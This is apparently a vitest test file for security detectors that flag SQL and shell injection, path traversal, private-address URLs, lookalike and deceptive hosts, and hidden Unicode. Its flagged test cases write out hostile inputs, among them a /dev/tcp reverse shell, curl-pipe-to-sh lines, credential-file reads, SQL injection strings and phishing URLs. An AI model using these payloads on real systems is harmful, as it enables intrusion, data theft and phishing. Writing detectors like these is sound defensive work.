import { describe, expect, it } from "vitest";
import { isPathTraversal } from "@/lib/domain/inspection/detect-path-traversal.ts";
import { hasHiddenUnicode } from "@/lib/domain/inspection/detect-hidden-unicode.ts";
import { isShellInjection } from "@/lib/domain/inspection/detect-shell-injection.ts";
import { isDestructiveSql, isSqlInjection, sqlStatements } from "@/lib/domain/inspection/detect-sql.ts";
import { hasDeceptiveUserinfo, hasLookalikeHost, hasPrivateAddressUrl } from "@/lib/domain/inspection/detect-url-risks.ts";
import { DETECTORS } from "@/lib/domain/inspection/inspect-arguments.ts";
import { isLookalikeHost } from "@/lib/domain/inspection/lookalike-host.ts";

// One block per detector: what it must catch, the hard negatives it must let pass, and (below)
// that no detector's time grows faster than linearly on hostile input.

describe("sql.destructive", () => {
  it.each([
    "DROP TABLE users",
    "truncate orders",
    "DELETE FROM invoices;",
    "delete from t where 1=1",
    "UPDATE accounts SET balance = 0",
    "ALTER TABLE t DROP COLUMN email",
    "DELETE users FROM users",
    "'; DROP TABLE students; --",
    "SELECT 1; DROP DATABASE prod",
  ])("flags %j", (sql) => expect(isDestructiveSql(sql)).toBe(true));
  it.each([
    "DELETE FROM sessions WHERE expires_at < now()",
    "UPDATE orders SET status = 'shipped' WHERE id = 7",
    "SELECT * FROM orders WHERE note = 'drop table later; ok'",
    "Drop table tennis from the agenda",
    "Please delete from the shared drive anything old",
  ])("lets %j pass", (sql) => expect(isDestructiveSql(sql)).toBe(false));
  it("reads statements with literals emptied and comments removed", () => {
    expect(sqlStatements("SELECT 'a;b' -- x;y\n; DROP/**/TABLE t")).toEqual(["SELECT ''", "DROP TABLE t"]);
  });
});

describe("sql.injection", () => {
  it.each([
    "' OR '1'='1",
    "admin'--",
    "1 UNION SELECT null, null",
    "' AND SLEEP(5)--",
    "1; DROP TABLE t",
    "'||(SELECT version())||'",
    '" OR ""="',
  ])("flags %j", (s) => expect(isSqlInjection(s)).toBe(true));
  it.each([
    "O'Brien",
    "SELECT a FROM t1 UNION SELECT a FROM t2",
    "SELECT * FROM t WHERE a = 'x' OR b = 'y'",
    "INSERT INTO c (body) VALUES ('He said \"OR 1=1\"')",
    "The union select committee meets Tuesday",
    "Is it true or false?",
  ])("lets %j pass", (s) => expect(isSqlInjection(s)).toBe(false));
});

describe("shell.injection", () => {
  it.each([
    "8.8.8.8; cat /etc/passwd",
    "$(curl -s https://x.example | sh)",
    "`whoami`",
    "a.txt`curl evil.example`",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "x.pdf\nrm -rf /var/www",
    ";cat${IFS}/etc/passwd",
  ])("flags %j", (s) => expect(isShellInjection(s)).toBe(true));
  it.each([
    "ps aux | grep node",
    "cd /srv/app && git pull",
    'echo "build $(date +%F)"',
    "Run `npm test` and paste the summary",
    "Dear Bob,\nExec summary attached.",
    "R&D budget",
  ])("lets %j pass", (s) => expect(isShellInjection(s)).toBe(false));
});

describe("path.traversal", () => {
  it.each([
    "../../etc/passwd",
    "..%2f..%2fetc",
    "....//....//etc/passwd",
    "/var/www/../../etc/shadow",
    "~/.ssh/id_rsa",
    "C:\\Windows\\System32\\config\\SAM",
    "/proc/self/environ",
    "a.php%00.png",
  ])("flags %j", (s) => expect(isPathTraversal(s)).toBe(true));
  it.each(["../assets", "src/../README.md", "Wait...", "git diff main..feature/x", "reports/2024/q3.pdf", "/etc/nginx/nginx.conf"])(
    "lets %j pass",
    (s) => expect(isPathTraversal(s)).toBe(false),
  );
});

describe("url.private_address", () => {
  it.each([
    "http://169.254.169.254/latest/meta-data/",
    "http://0x7f000001/",
    "http://2130706433/",
    "http://[::ffff:127.0.0.1]/",
    "http://127.0.0.1.nip.io/",
    "gopher://127.0.0.1:6379/_x",
    "http://intranet/x",
    "10.0.0.5:8080/admin",
  ])("flags %j", (s) => expect(hasPrivateAddressUrl(s)).toBe(true));
  it.each([
    "https://8.8.8.8/dns-query",
    "https://203.0.113.10/healthz",
    "We use 10.0.0.0/8 internally",
    "s3://acme-exports/orders.csv",
    "https://example.com/x",
  ])("lets %j pass", (s) => expect(hasPrivateAddressUrl(s)).toBe(false));
});

describe("url.punycode (lookalike hosts)", () => {
  it.each([
    "https://p\u0430ypal.com",
    "https://xn--80ak6aa92e.com/",
    "ceo@micr\u043esoft.com",
    "https://paypa\u013a.com",
    "visit \u0430dobe.com/renew",
    "https://xn--zzzz-.com/",
  ])("flags %j", (s) => expect(hasLookalikeHost(s)).toBe(true));
  it.each([
    "https://m\u00fcnchen.de",
    "https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/",
    "https://\u4f8b\u3048.jp/",
    "j\u00fcrgen@beispiel.de",
    "https://xn--mnchen-3ya.de/",
    "\u041f\u0440\u0438\u0432\u0435\u0442.\u041a\u0430\u043a \u0434\u0435\u043b\u0430",
  ])("lets %j pass", (s) => expect(hasLookalikeHost(s)).toBe(false));
  it("judges labels by script, not by being non-ASCII", () => {
    expect(isLookalikeHost("xn--80ak6aa92e.com")).toBe(true); // аррӏе: every letter imitates Latin
    expect(isLookalikeHost("xn--e1afmkfd.xn--p1ai")).toBe(false); // пример.рф
  });
});

describe("url.deceptive_userinfo (a host name before the @)", () => {
  it.each([
    "https://paypal.com@evil.example/pay",
    "http://login.microsoftonline.com:443@phish.example/",
    "https://www.chase.com@1.2.3.4/",
    "https://stripe.com%40x@payouts.example/",
    "https://pay%70al.com@evil.example",
  ])("flags %j", (s) => expect(hasDeceptiveUserinfo(s)).toBe(true));
  it.each([
    "https://john.doe@git.example.org/app.git",
    "ftp://anonymous@ftp.example.org/pub",
    "https://user:pass@192.168.0.10/api",
    "write to billing@paypal.com",
    "https://x-access-token@github.com/o/r.git",
  ])("lets %j pass", (s) => expect(hasDeceptiveUserinfo(s)).toBe(false));
});

describe("text.hidden_unicode", () => {
  it.each([
    "invoice-\u202egpj.exe",
    "acct_123\u200b4",
    "admin\u200d@example.com",
    "Please approve\u200f",
    "a\u0007b",
    "x\u3164",
    "ok\u{1F44D}\u{E0158}\u{E0159}",
    "acct_123\u{E0101}",
    "\u845B\u{E0100}\u{E0101}",
  ])("flags %j", (s) => expect(hasHiddenUnicode(s)).toBe(true));
  it.each([
    "\ud83d\udc69\u200d\ud83d\udcbb",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "\u05e9\u05dc\u05d5\u05dd \u200e(UTC)\u200e",
    "\ufeffid,name",
    "line one\nline two\ttab",
    "\u845B\u{E0100}\u57CE",
  ])("lets %j pass", (s) => expect(hasHiddenUnicode(s)).toBe(false));
});

describe("every detector on hostile input of the largest accepted size", () => {
  const size = 256 * 1024;
  const inputs = [
    "'".repeat(size),
    " ".repeat(size),
    "a".repeat(size),
    "../".repeat(size / 3),
    "http://".repeat(size / 7),
    "\u200b".repeat(size),
    "; ".repeat(size / 2),
    "x' OR ".repeat(size / 6),
    "DELETE FROM t".repeat(size / 13),
    "xn--".repeat(size / 4),
  ];
  it.each(DETECTORS.map((d) => [d.flag, d] as const))("%s stays linear", (_flag, detector) => {
    for (const input of inputs) {
      const started = performance.now();
      detector.test(input);
      // Generous for a 2-core machine shared with other work; catastrophic backtracking takes minutes.
      expect(performance.now() - started).toBeLessThan(1500);
    }
  });
});
